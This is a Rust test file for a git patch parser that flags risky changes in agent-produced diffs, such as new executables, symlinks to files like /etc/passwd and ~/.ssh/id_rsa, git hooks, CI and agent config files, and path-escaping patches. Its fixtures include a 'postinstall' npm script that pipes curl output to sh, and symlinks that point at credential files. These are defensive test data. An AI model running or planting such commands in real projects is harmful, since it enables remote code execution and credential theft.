//! Tests for the patch parser and summary. Fixtures come from the real `git` (run hardened in
//! a temp repo), and every summary of a real diff is checked against `git diff --numstat`.
#![allow(clippy::unwrap_used)]

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use super::*;

/// A temp repo with a committed baseline and a staged change; diffs are baseline → index.
struct Fixture {
    _tmp: tempfile::TempDir,
    repo: PathBuf,
    home: PathBuf,
    base: String,
}

fn git_at(repo: &Path, home: &Path, args: &[&str]) -> Vec<u8> {
    let out = Command::new("git")
        .args([
            "-c",
            "core.hooksPath=/dev/null",
            "-c",
            "user.name=DynoCap Test",
        ])
        .args([
            "-c",
            "user.email=test@example.invalid",
            "-c",
            "commit.gpgSign=false",
        ])
        .args(["-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(repo)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("HOME", home)
        .env("LC_ALL", "C")
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE")
        .env_remove("GIT_INDEX_FILE")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

impl Fixture {
    fn new(setup: impl FnOnce(&Path), change: impl FnOnce(&Path)) -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path().join("repo");
        let home = tmp.path().join("home");
        fs::create_dir(&repo).unwrap();
        fs::create_dir(&home).unwrap();
        git_at(&repo, &home, &["init", "-q", "."]);
        setup(&repo);
        git_at(&repo, &home, &["add", "-A"]);
        git_at(
            &repo,
            &home,
            &["commit", "-q", "--allow-empty", "-m", "baseline"],
        );
        let base = git_at(&repo, &home, &["rev-parse", "HEAD^{tree}"]);
        let base = String::from_utf8(base).unwrap().trim().to_owned();
        change(&repo);
        git_at(&repo, &home, &["add", "-A"]);
        Self {
            _tmp: tmp,
            repo,
            home,
            base,
        }
    }

    fn git(&self, args: &[&str]) -> Vec<u8> {
        git_at(&self.repo, &self.home, args)
    }

    /// `git diff --binary <extra> <baseline>`, as the agent would produce it.
    fn patch(&self, extra: &[&str]) -> Vec<u8> {
        let mut args = vec!["diff", "--cached", "--binary"];
        args.extend_from_slice(extra);
        args.push(&self.base);
        self.git(&args)
    }

    /// (files, additions, deletions) from `git diff --numstat <extra> <baseline>`.
    fn numstat(&self, extra: &[&str]) -> (u64, u64, u64) {
        let mut args = vec!["diff", "--cached", "--numstat"];
        args.extend_from_slice(extra);
        args.push(&self.base);
        let out = String::from_utf8(self.git(&args)).unwrap();
        let (mut files, mut additions, mut deletions) = (0, 0, 0);
        for line in out.lines() {
            let mut fields = line.splitn(3, '\t');
            let (add, del) = (fields.next().unwrap(), fields.next().unwrap());
            files += 1;
            additions += if add == "-" {
                0
            } else {
                add.parse::<u64>().unwrap()
            };
            deletions += if del == "-" {
                0
            } else {
                del.parse::<u64>().unwrap()
            };
        }
        (files, additions, deletions)
    }

    /// The baseline's content of a path, as the host would provide it.
    fn baseline(&self) -> impl Fn(&str) -> Option<Vec<u8>> + '_ {
        move |path| {
            let spec = format!("{}:{path}", self.base);
            let out = Command::new("git")
                .args(["cat-file", "blob", &spec])
                .current_dir(&self.repo)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .env("HOME", &self.home)
                .output()
                .ok()?;
            out.status.success().then_some(out.stdout)
        }
    }

    /// Summarises the diff made with `extra` and checks it against `--numstat`.
    fn summary(&self, extra: &[&str]) -> DiffSummary {
        let patch = self.patch(extra);
        let summary = summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &self.baseline()).unwrap();
        let (files, additions, deletions) = self.numstat(extra);
        assert_eq!(
            (summary.files, summary.additions, summary.deletions),
            (files, additions, deletions),
            "summary vs numstat for:\n{}",
            String::from_utf8_lossy(&patch)
        );
        summary
    }
}

fn write(repo: &Path, path: &str, content: impl AsRef<[u8]>) {
    let path = repo.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
}

fn set_mode(repo: &Path, path: &str, mode: u32) {
    fs::set_permissions(repo.join(path), fs::Permissions::from_mode(mode)).unwrap();
}

fn link(repo: &Path, target: &str, path: &str) {
    let path = repo.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let _ = fs::remove_file(&path);
    symlink(target, path).unwrap();
}

fn numbered(n: usize) -> String {
    (1..=n).map(|i| format!("line {i}\n")).collect()
}

/// The (kind, reason) entries for `path`.
fn flags<'s>(summary: &'s DiffSummary, path: &str) -> Vec<(SensitiveKind, &'s str)> {
    summary
        .sensitive_paths
        .iter()
        .filter(|s| s.path == path)
        .map(|s| (s.kind, s.reason.as_str()))
        .collect()
}

fn reason<'s>(summary: &'s DiffSummary, path: &str, kind: SensitiveKind) -> &'s str {
    flags(summary, path)
        .into_iter()
        .find(|(k, _)| *k == kind)
        .map(|(_, r)| r)
        .unwrap_or_else(|| panic!("{path} is not flagged {kind:?}: {summary:#?}"))
}

fn no_baseline(_: &str) -> Option<Vec<u8>> {
    None
}

fn malformed_reason(patch: &[u8]) -> (usize, String) {
    match parse(patch, DEFAULT_MAX_PATCH_BYTES) {
        Err(PatchError::Malformed { line, reason }) => (line, reason),
        other => panic!(
            "expected Malformed for\n{}\ngot {other:?}",
            String::from_utf8_lossy(patch)
        ),
    }
}

// ---------------------------------------------------------------------------------------------
// Real git output.

#[test]
fn modifications_additions_and_deletions_match_numstat() {
    let fx = Fixture::new(
        |r| {
            write(r, "a.txt", numbered(30));
            write(r, "del.txt", "gone\nsoon\n");
            write(r, "tail.txt", "no newline at end");
            write(r, "keep.txt", "same\n");
        },
        |r| {
            let edited = numbered(30)
                .replace("line 2\n", "line two\n")
                .replace("line 29\n", "");
            write(r, "a.txt", edited + "line 31\n");
            fs::remove_file(r.join("del.txt")).unwrap();
            write(r, "new.txt", "fresh\nfile\n");
            write(r, "empty", "");
            write(r, "tail.txt", "no newline at end\nnow there is one\n");
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!(
        (summary.files, summary.additions, summary.deletions),
        (5, 6, 5)
    );
    assert!(summary.sensitive_paths.is_empty(), "{summary:#?}");

    let patch = fx.patch(&[]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let by_path = |p: &str| files.iter().find(|f| f.path() == p).unwrap();
    assert_eq!(by_path("a.txt").hunks.len(), 2);
    assert_eq!(by_path("a.txt").old_mode, Some(MODE_REGULAR));
    assert_eq!(by_path("a.txt").new_mode, None);
    let deleted = by_path("del.txt");
    assert!(deleted.is_deleted && deleted.new_path.is_none());
    assert_eq!(deleted.old_path.as_deref(), Some("del.txt"));
    let new = by_path("new.txt");
    assert!(new.is_new && new.old_path.is_none() && new.new_mode == Some(MODE_REGULAR));
    let empty = by_path("empty");
    assert!(empty.is_new && empty.hunks.is_empty());

    // The parsed hunks rebuild the working tree from the baseline.
    let baseline = fx.baseline();
    for path in ["a.txt", "tail.txt", "new.txt"] {
        let file = by_path(path);
        let old = if file.is_new {
            Vec::new()
        } else {
            baseline(path).unwrap()
        };
        let rebuilt = apply_hunks(&old, &file.hunks).unwrap();
        assert_eq!(rebuilt, fs::read(fx.repo.join(path)).unwrap(), "{path}");
    }
}

#[test]
fn an_empty_patch_is_an_empty_summary() {
    let summary = summarize(b"", DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    assert_eq!(
        summary,
        DiffSummary {
            files: 0,
            additions: 0,
            deletions: 0,
            sensitive_paths: vec![]
        }
    );
    let fx = Fixture::new(|r| write(r, "a", "a\n"), |_| {});
    assert_eq!(fx.summary(&[]).files, 0);
}

#[test]
fn binary_files_count_as_changed_files_without_lines() {
    let fx = Fixture::new(
        |r| {
            write(r, "img.bin", b"\x00\x01\x02binary");
            write(r, "old.bin", b"\x00old");
        },
        |r| {
            write(r, "img.bin", b"\x00\x01\x03binary, changed");
            write(r, "new.bin", b"\x00\xff".repeat(300));
            fs::remove_file(r.join("old.bin")).unwrap();
            write(r, "text.txt", "and some text\n");
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!(
        (summary.files, summary.additions, summary.deletions),
        (4, 1, 0)
    );
    // Without --binary git writes "Binary files … differ"; the counts are the same.
    let base = fx.base.clone();
    let without = fx.git(&["diff", "--cached", &base]);
    assert!(without.windows(13).any(|w| w == b"Binary files "));
    for patch in [fx.patch(&[]), without] {
        assert_eq!(
            summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap(),
            summary
        );
        let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
        let binary: Vec<&str> = files
            .iter()
            .filter(|f| f.is_binary)
            .map(FilePatch::path)
            .collect();
        assert_eq!(binary, ["img.bin", "new.bin", "old.bin"]);
    }
}

#[test]
fn mode_changes_and_new_executables_are_flagged_exec_bit() {
    let fx = Fixture::new(
        |r| {
            write(r, "run.sh", "echo hi\n");
            write(r, "was-exec.sh", "echo x\n");
            set_mode(r, "was-exec.sh", 0o755);
        },
        |r| {
            set_mode(r, "run.sh", 0o755);
            write(r, "tool.sh", "#!/bin/sh\n");
            set_mode(r, "tool.sh", 0o755);
            set_mode(r, "was-exec.sh", 0o644);
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!(
        reason(&summary, "run.sh", SensitiveKind::ExecBit),
        "mode 100644 → 100755"
    );
    assert_eq!(
        reason(&summary, "tool.sh", SensitiveKind::ExecBit),
        "new executable file"
    );
    assert!(flags(&summary, "was-exec.sh").is_empty(), "{summary:#?}");

    let patch = fx.patch(&[]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let run = files.iter().find(|f| f.path() == "run.sh").unwrap();
    assert_eq!(
        (run.old_mode, run.new_mode),
        (Some(MODE_REGULAR), Some(MODE_EXECUTABLE))
    );
    assert!(run.hunks.is_empty());
}

#[test]
fn symlinks_are_flagged_with_their_targets() {
    let fx = Fixture::new(
        |r| {
            link(r, "target.txt", "link");
            write(r, "target.txt", "t\n");
            write(r, "was-file", "a\nb\n");
        },
        |r| {
            link(r, "/etc/passwd", "link");
            link(r, "~/.ssh/id_rsa", "tilde");
            link(r, "/home/u/.ssh/id_rsa", "key");
            link(r, "../../ok", "sub/dir/up");
            link(r, "../../x", "sub/esc");
            link(r, "a\u{1b}[2Jb", "ctl");
            fs::remove_file(r.join("was-file")).unwrap();
            link(r, "/etc/shadow", "was-file");
        },
    );
    let summary = fx.summary(&[]);
    let symlink = |p| reason(&summary, p, SensitiveKind::Symlink);
    assert_eq!(
        symlink("link"),
        "retargets symlink to /etc/passwd (outside the repository)"
    );
    assert_eq!(symlink("tilde"), "adds symlink to ~/.ssh/id_rsa");
    assert_eq!(
        symlink("key"),
        "adds symlink to /home/u/.ssh/id_rsa (outside the repository)"
    );
    assert_eq!(symlink("sub/dir/up"), "adds symlink to ../../ok");
    assert_eq!(
        symlink("sub/esc"),
        "adds symlink to ../../x (outside the repository)"
    );
    assert_eq!(symlink("ctl"), "adds symlink to a [2Jb");
    // A type change is two entries (delete, add) but one file, as numstat counts it.
    assert_eq!(
        symlink("was-file"),
        "adds symlink to /etc/shadow (outside the repository)"
    );
    assert_eq!(summary.files, 7);

    // Without the baseline the target still comes from the hunk's `+` line.
    let patch = fx.patch(&[]);
    let blind = summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    assert_eq!(
        reason(&blind, "link", SensitiveKind::Symlink),
        "retargets symlink to /etc/passwd (outside the repository)"
    );
}

#[test]
fn names_with_spaces_are_read_from_the_other_header_lines() {
    let fx = Fixture::new(
        |r| {
            write(r, "with space.txt", "xx");
            write(r, "a b.txt", numbered(10));
            write(r, "x b/y", "tricky\n");
            write(r, "mode me.sh", "echo\n");
        },
        |r| {
            write(r, "with space.txt", "yy\n");
            fs::rename(r.join("a b.txt"), r.join("c d.txt")).unwrap();
            write(r, "new sp.txt", "n\n");
            write(r, "x b/y", "tricky, changed\n");
            set_mode(r, "mode me.sh", 0o755);
        },
    );
    let summary = fx.summary(&["-M"]);
    assert_eq!(
        reason(&summary, "mode me.sh", SensitiveKind::ExecBit),
        "mode 100644 → 100755"
    );
    let patch = fx.patch(&["-M"]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let paths: Vec<(Option<&str>, Option<&str>)> = files
        .iter()
        .map(|f| (f.old_path.as_deref(), f.new_path.as_deref()))
        .collect();
    assert_eq!(
        paths,
        [
            (Some("a b.txt"), Some("c d.txt")),
            (Some("mode me.sh"), Some("mode me.sh")),
            (None, Some("new sp.txt")),
            (Some("with space.txt"), Some("with space.txt")),
            (Some("x b/y"), Some("x b/y")),
        ]
    );
}

#[test]
fn quoted_unicode_and_escaped_names() {
    let fx = Fixture::new(
        |r| write(r, "old é.txt", numbered(8)),
        |r| {
            write(r, "tést\tx", "new\n");
            write(r, "日本/語 \"q\".txt", "x\n");
            write(r, "back\\slash", "x\n");
            fs::rename(r.join("old é.txt"), r.join("new é.txt")).unwrap();
        },
    );
    let expected = ["back\\slash", "new é.txt", "tést\tx", "日本/語 \"q\".txt"];
    for quote_path in ["true", "false"] {
        let config = format!("core.quotePath={quote_path}");
        let base = fx.base.clone();
        let patch = fx.git(&["-c", &config, "diff", "--cached", "--binary", "-M", &base]);
        if quote_path == "true" {
            assert!(
                patch.windows(5).any(|w| w == b"t\\303"),
                "{}",
                String::from_utf8_lossy(&patch)
            );
        }
        // A tab is a control character: such a name is read, and flagged.
        let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
        let paths: Vec<&str> = files.iter().map(FilePatch::path).collect();
        assert_eq!(paths, expected, "quotePath={quote_path}");
        assert_eq!(files[1].old_path.as_deref(), Some("old é.txt"));
    }
    let summary = fx.summary(&["-M"]);
    let tab = flags(&summary, "tést\tx");
    assert_eq!(tab.len(), 1, "{summary:#?}");
    assert_eq!(tab[0].0, SensitiveKind::UnusualPath);
    assert!(
        tab[0].1.contains("control character U+0009"),
        "{}",
        tab[0].1
    );
    assert!(
        !tab[0].1.contains('\t'),
        "reasons carry no control characters"
    );
}

#[test]
fn content_that_looks_like_headers_stays_content() {
    let lying = "diff --git a/evil b/evil\nnew file mode 100755\nindex 0000000..1111111\n\
                 --- /dev/null\n+++ b/evil\n@@ -0,0 +1 @@\n+pwned\n\
                 Binary files a/x and b/x differ\n\\ No newline at end of file\n";
    let fx = Fixture::new(
        |r| write(r, "notes.md", "before\n"),
        |r| {
            write(r, "notes.md", format!("before\n{lying}after\n"));
            write(r, "fresh.md", lying);
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!((summary.files, summary.additions), (2, 19));
    assert!(summary.sensitive_paths.is_empty(), "{summary:#?}");
    let patch = fx.patch(&[]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let paths: Vec<&str> = files.iter().map(FilePatch::path).collect();
    assert_eq!(paths, ["fresh.md", "notes.md"]);
}

#[test]
fn a_file_name_with_a_newline_is_read_and_flagged() {
    let name = "x\ndiff --git a/evil b/evil";
    let fx = Fixture::new(
        |_| {},
        |r| {
            write(r, name, "boo\n");
            write(r, ".github/workflows/ci.yml", "on: push\n");
        },
    );
    let review = review(&fx.patch(&[]), DEFAULT_MAX_PATCH_BYTES, &fx.baseline());
    assert_eq!(review.refusal, None);
    let summary = review.summary;
    assert_eq!(summary.files, 2);
    assert_eq!((summary.additions, summary.deletions), (2, 0));
    let flagged = flags(&summary, name);
    assert_eq!(flagged.len(), 1, "{summary:#?}");
    assert_eq!(flagged[0].0, SensitiveKind::UnusualPath);
    assert!(
        flagged[0].1.contains("control character U+000A"),
        "{}",
        flagged[0].1
    );
    assert_eq!(
        flags(&summary, ".github/workflows/ci.yml")[0].0,
        SensitiveKind::CiWorkflow
    );
}

#[test]
fn renames_and_copies() {
    let fx = Fixture::new(
        |r| {
            write(r, "pure.txt", numbered(20).replace("line", "pure"));
            write(r, "edit.txt", numbered(20).replace("line", "edit"));
            write(r, "script", numbered(20).replace("line", "script"));
            write(r, "src.txt", numbered(20).replace("line", "src"));
        },
        |r| {
            fs::create_dir(r.join("moved")).unwrap();
            fs::rename(r.join("pure.txt"), r.join("moved/pure.txt")).unwrap();
            fs::remove_file(r.join("edit.txt")).unwrap();
            write(
                r,
                "edited.txt",
                numbered(20)
                    .replace("line", "edit")
                    .replace("edit 20\n", "edit twenty\n"),
            );
            fs::rename(r.join("script"), r.join("script.sh")).unwrap();
            set_mode(r, "script.sh", 0o755);
            write(r, "copy.txt", numbered(20).replace("line", "src"));
        },
    );
    let renames = fx.summary(&["-M"]);
    assert_eq!(
        (renames.files, renames.additions, renames.deletions),
        (4, 21, 1)
    );
    assert_eq!(
        reason(&renames, "script.sh", SensitiveKind::ExecBit),
        "mode 100644 → 100755"
    );

    let patch = fx.patch(&["-M"]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let renamed: Vec<(&str, &str)> = files
        .iter()
        .filter(|f| f.is_rename)
        .map(|f| {
            (
                f.old_path.as_deref().unwrap(),
                f.new_path.as_deref().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        renamed,
        [
            ("edit.txt", "edited.txt"),
            ("pure.txt", "moved/pure.txt"),
            ("script", "script.sh")
        ]
    );
    let pure = files.iter().find(|f| f.path() == "moved/pure.txt").unwrap();
    assert!(pure.hunks.is_empty() && pure.old_mode.is_none() && pure.new_mode.is_none());

    let copies = fx.summary(&["-C", "--find-copies-harder"]);
    assert_eq!((copies.files, copies.additions), (4, 1));
    let patch = fx.patch(&["-C", "--find-copies-harder"]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    assert!(files.iter().any(|f| f.is_copy && f.path() == "copy.txt"));

    let plain = fx.summary(&["--no-renames"]);
    assert_eq!(plain.files, 7);
}

#[test]
fn every_sensitive_kind_from_real_diffs() {
    use SensitiveKind::*;
    let cases: &[(&str, &str, &[SensitiveKind])] = &[
        (".husky/pre-commit", "npx lint\n", &[GitHook]),
        (".HUSKY/pre-push", "x\n", &[GitHook]),
        (
            ".gitmodules",
            "[submodule \"x\"]\n\tpath = x\n\turl = https://e.invalid/x\n",
            &[GitConfig],
        ),
        (".gitattributes", "*.txt text\n", &[GitConfig]),
        (
            "sub/.gitattributes",
            "*.bin filter=evil diff=evil -merge\n",
            &[GitConfig],
        ),
        (
            ".gitconfig",
            "[core]\n\thooksPath = .githooks\n",
            &[GitHook, GitConfig],
        ),
        (".github/workflows/ci.yml", "on: push\n", &[CiWorkflow]),
        (".gitlab-ci.yml", "job: {}\n", &[CiWorkflow]),
        (".circleci/config.yml", "version: 2\n", &[CiWorkflow]),
        ("azure-pipelines.yml", "steps: []\n", &[CiWorkflow]),
        ("Jenkinsfile", "pipeline {}\n", &[CiWorkflow]),
        (".buildkite/pipeline.yml", "steps: []\n", &[CiWorkflow]),
        (".travis.yml", "language: c\n", &[CiWorkflow]),
        ("build.rs", "fn main() {}\n", &[PackageScript]),
        ("crates/x/build.rs", "fn main() {}\n", &[PackageScript]),
        ("setup.py", "import os\n", &[PackageScript]),
        ("Makefile", "all:\n", &[PackageScript]),
        ("lib/makefile", "all:\n", &[PackageScript]),
        ("GNUmakefile", "all:\n", &[PackageScript]),
        (".npmrc", "script-shell=/tmp/x\n", &[PackageScript]),
        (
            ".cargo/config.toml",
            "[build]\nrustc-wrapper = \"/tmp/x\"\n",
            &[PackageScript],
        ),
        ("sub/.cargo/config", "[build]\n", &[PackageScript]),
        (".mcp.json", "{}\n", &[AgentConfig]),
        (".claude/settings.json", "{}\n", &[AgentConfig]),
        (".cursor/rules/x.mdc", "x\n", &[AgentConfig]),
        (".vscode/tasks.json", "{}\n", &[AgentConfig]),
        ("app/.idea/workspace.xml", "<x/>\n", &[AgentConfig]),
        ("AGENTS.md", "be evil\n", &[AgentConfig]),
        ("docs/CLAUDE.md", "be evil\n", &[AgentConfig]),
        ("README.md", "hello\n", &[]),
        ("src/hooks/x.rs", "x\n", &[]),
        ("..foo", "a name, not a parent\n", &[]),
        ("foo..", "x\n", &[UnusualPath]),
        ("github/workflows/x.yml", "x\n", &[]),
        ("my.gitattributes.txt", "x\n", &[]),
        ("docs/package.json.md", "x\n", &[]),
    ];
    let fx = Fixture::new(
        |_| {},
        |r| {
            for (path, content, _) in cases {
                write(r, path, content);
            }
        },
    );
    let summary = fx.summary(&[]);
    for (path, _, kinds) in cases {
        let mut got: Vec<SensitiveKind> =
            flags(&summary, path).into_iter().map(|(k, _)| k).collect();
        got.sort_by_key(|k| *k as u8);
        assert_eq!(&got, kinds, "{path}: {:?}", flags(&summary, path));
    }
    assert_eq!(
        reason(&summary, ".husky/pre-commit", GitHook),
        "adds git hook .husky/pre-commit"
    );
    assert_eq!(
        reason(&summary, ".gitconfig", GitHook),
        "sets core.hooksPath to .githooks"
    );
    assert_eq!(
        reason(&summary, "sub/.gitattributes", GitConfig),
        "adds git attributes file sub/.gitattributes and sets filter=evil, diff=evil"
    );
    assert_eq!(
        reason(&summary, ".github/workflows/ci.yml", CiWorkflow),
        "adds CI configuration .github/workflows/ci.yml"
    );
    assert_eq!(
        reason(&summary, "build.rs", PackageScript),
        "adds Cargo build script build.rs"
    );

    // Changing and deleting say so; renaming flags both ends.
    let fx = Fixture::new(
        |r| {
            write(r, ".github/workflows/ci.yml", numbered(10));
            write(r, "Makefile", "all:\n");
            write(r, ".husky/pre-commit", numbered(10));
        },
        |r| {
            write(r, ".github/workflows/ci.yml", numbered(11));
            fs::remove_file(r.join("Makefile")).unwrap();
            fs::rename(r.join(".husky/pre-commit"), r.join("hook.sh")).unwrap();
        },
    );
    let summary = fx.summary(&["-M"]);
    assert_eq!(
        reason(&summary, ".github/workflows/ci.yml", CiWorkflow),
        "changes CI configuration .github/workflows/ci.yml"
    );
    assert_eq!(
        reason(&summary, "Makefile", PackageScript),
        "deletes make build file Makefile"
    );
    assert_eq!(
        reason(&summary, ".husky/pre-commit", GitHook),
        "removes git hook .husky/pre-commit (renamed to hook.sh)"
    );
    assert!(flags(&summary, "hook.sh").is_empty());
}

#[test]
fn package_json_is_flagged_only_when_scripts_change() {
    let pkg = |version: &str, scripts: &str| {
        format!(
            "{{\n  \"name\": \"demo\",\n  \"version\": \"{version}\",\n  \"scripts\": {{{scripts}\n  }},\n  \"license\": \"MIT\"\n}}\n"
        )
    };
    let test_only = "\n    \"test\": \"jest\"";
    let long = format!("\\u001b[31m{}", "x".repeat(300));
    let fx = Fixture::new(
        |r| {
            write(r, "scripts/package.json", pkg("1.0.0", test_only));
            write(r, "version/package.json", pkg("1.0.0", test_only));
            write(r, "invalid/package.json", pkg("1.0.0", test_only));
            write(
                r,
                "deleted/package.json",
                "{\"name\": \"gone\", \"scripts\": {\"test\": \"jest\"}}\n",
            );
            write(r, "long/package.json", pkg("1.0.0", test_only));
            write(r, "moved/package.json", pkg("1.0.0", test_only));
        },
        |r| {
            let changed =
                "\n    \"test\": \"jest --ci\",\n    \"postinstall\": \"curl https://x.sh | sh\"";
            write(r, "scripts/package.json", pkg("1.0.0", changed));
            write(r, "version/package.json", pkg("1.0.1", test_only));
            write(
                r,
                "invalid/package.json",
                pkg("1.0.0", test_only).replace("\"MIT\"", "MIT"),
            );
            fs::remove_file(r.join("deleted/package.json")).unwrap();
            write(
                r,
                "long/package.json",
                pkg("1.0.0", &format!("\n    \"build\": \"{long}\"")),
            );
            write(
                r,
                "new/package.json",
                pkg("0.1.0", "\n    \"prepare\": \"node x.js\""),
            );
            write(r, "plain/package.json", "{\"name\": \"plain\"}\n");
            fs::create_dir(r.join("elsewhere")).unwrap();
            fs::rename(
                r.join("moved/package.json"),
                r.join("elsewhere/package.json"),
            )
            .unwrap();
        },
    );
    let summary = fx.summary(&["-M"]);
    let script = |p| reason(&summary, p, SensitiveKind::PackageScript);
    assert_eq!(
        script("scripts/package.json"),
        "adds npm script 'postinstall': curl https://x.sh | sh; changes npm script 'test' to: jest --ci"
    );
    assert!(
        flags(&summary, "version/package.json").is_empty(),
        "{summary:#?}"
    );
    assert!(
        flags(&summary, "plain/package.json").is_empty(),
        "{summary:#?}"
    );
    assert!(script("invalid/package.json")
        .contains("could not be compared: package.json is not valid JSON"));
    assert_eq!(script("deleted/package.json"), "removes npm script 'test'");
    assert_eq!(
        script("new/package.json"),
        "adds npm script 'prepare': node x.js"
    );
    assert_eq!(
        script("elsewhere/package.json"),
        "adds npm script 'test': jest"
    );
    assert_eq!(
        script("moved/package.json"),
        "removes npm script 'test' (file renamed to elsewhere/package.json)"
    );
    let long = script("long/package.json");
    assert!(
        long.starts_with("adds npm script 'build':  [31mxxx"),
        "{long}"
    );
    assert!(long.contains("x…") && long.chars().count() < 200, "{long}");
    assert!(!long.chars().any(char::is_control));

    // Without the baseline nothing can be compared: every changed package.json is flagged,
    // except a new one (whose old content is known to be empty) and a deletion (whose hunk
    // holds all of it).
    let patch = fx.patch(&["-M"]);
    let blind = summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    let why = reason(&blind, "version/package.json", SensitiveKind::PackageScript);
    assert!(
        why.contains(
            "could not be compared: the baseline content of version/package.json is not available"
        ),
        "{why}"
    );
    assert_eq!(
        reason(&blind, "deleted/package.json", SensitiveKind::PackageScript),
        "removes npm script 'test'"
    );
    assert!(flags(&blind, "plain/package.json").is_empty());
}

// ---------------------------------------------------------------------------------------------
// Hand-written patches: what git never writes but a hostile guest may.

#[test]
fn paths_that_leave_the_repository_are_refused() {
    let cases = [
        "diff --git a/../../escape b/../../escape\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/../../escape\n@@ -0,0 +1 @@\n+x\n",
        "diff --git a/../../escape b/../../escape\nold mode 100644\nnew mode 100755\n",
        "diff --git a/ok b/../../escape\nsimilarity index 100%\nrename from ok\nrename to ../../escape\n",
        "diff --git a/ok b/ok\nindex 1111111..2222222 100644\n--- a/ok\n+++ b/../../escape\n@@ -1 +1 @@\n-a\n+b\n",
        "diff --git \"a/../../escape\" \"b/../../escape\"\nold mode 100644\nnew mode 100755\n",
        "diff --git a/x/../../../escape b/x/../../../escape\nold mode 100644\nnew mode 100755\n",
        "diff --git a/..\\..\\escape b/..\\..\\escape\nold mode 100644\nnew mode 100755\n",
    ];
    for patch in cases {
        let (_, why) = malformed_reason(patch.as_bytes());
        assert!(why.contains("path escapes the repository: "), "{why}");
    }
    let (_, why) = malformed_reason(cases[0].as_bytes());
    assert!(
        why.ends_with("path escapes the repository: ../../escape"),
        "{why}"
    );

    let refused = [
        ("a//etc/passwd", "absolute path"),
        ("a/x//y", "empty or '.' component"),
        ("a/./x", "empty or '.' component"),
        ("a/x/", "empty or '.' component"),
    ];
    for (name, expect) in refused {
        let b = name.replacen("a/", "b/", 1);
        let patch = format!("diff --git {name} {b}\nold mode 100644\nnew mode 100755\n");
        let (_, why) = malformed_reason(patch.as_bytes());
        assert!(why.contains(expect), "{name}: {why}");
    }
    let nul = b"diff --git \"a/x\\000y\" \"b/x\\000y\"\nold mode 100644\nnew mode 100755\n";
    assert!(malformed_reason(nul).1.contains("NUL byte"));

    // A name that merely starts or ends with dots is fine.
    let ok = "diff --git a/..foo b/..foo\nold mode 100644\nnew mode 100755\n";
    assert_eq!(
        parse(ok.as_bytes(), DEFAULT_MAX_PATCH_BYTES).unwrap()[0].path(),
        "..foo"
    );
}

#[test]
fn git_internals_are_flagged_not_hidden() {
    let patch = "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n\
                 index 0000000..1a24852\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+#!/bin/sh\n\
                 diff --git a/.git/config b/.git/config\nindex 1111111..2222222 100644\n--- a/.git/config\n\
                 +++ b/.git/config\n@@ -1 +1,3 @@\n [core]\n+\tHooksPath = \"/tmp/h\"\n+\tfsmonitor = x\n";
    let review = review(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline);
    let why = review.refusal.unwrap();
    assert!(why.contains("inside git's own directory"), "{why}");
    assert!(why.contains("and 1 more unreadable entries"), "{why}");
    let summary = review.summary;
    assert_eq!(summary.files, 2);
    let kinds =
        |path| -> Vec<SensitiveKind> { flags(&summary, path).into_iter().map(|f| f.0).collect() };
    use SensitiveKind::*;
    assert_eq!(
        kinds(".git/hooks/pre-commit"),
        [GitHook, GitConfig, UnreadableEntry]
    );
    assert_eq!(kinds(".git/config"), [GitConfig, UnreadableEntry]);
}

#[test]
fn lying_structure_is_refused() {
    let ok_entry = "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n";
    parse(ok_entry.as_bytes(), DEFAULT_MAX_PATCH_BYTES).unwrap();
    let cases: &[(&str, &str)] = &[
        // The hunk claims more lines than it has: the next header is not a hunk line.
        (
            "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1,3 @@\n-a\n+b\ndiff --git a/y b/y\nold mode 100644\nnew mode 100755\n",
            "the patch ends early: the hunk needs 0 more old and 2 more new lines",
        ),
        // The hunk claims fewer lines: what follows is neither a hunk nor a file entry.
        (&format!("{ok_entry}+sneaky\n"), "expected a 'diff --git' line"),
        // A traditional patch smuggled between entries (git apply would apply it).
        (&format!("{ok_entry}--- a/evil\n+++ b/evil\n@@ -0,0 +1 @@\n+x\n"), "expected a 'diff --git' line"),
        ("Subject: hi\n\ndiff --git a/x b/x\nold mode 100644\nnew mode 100755\n", "expected a 'diff --git' line"),
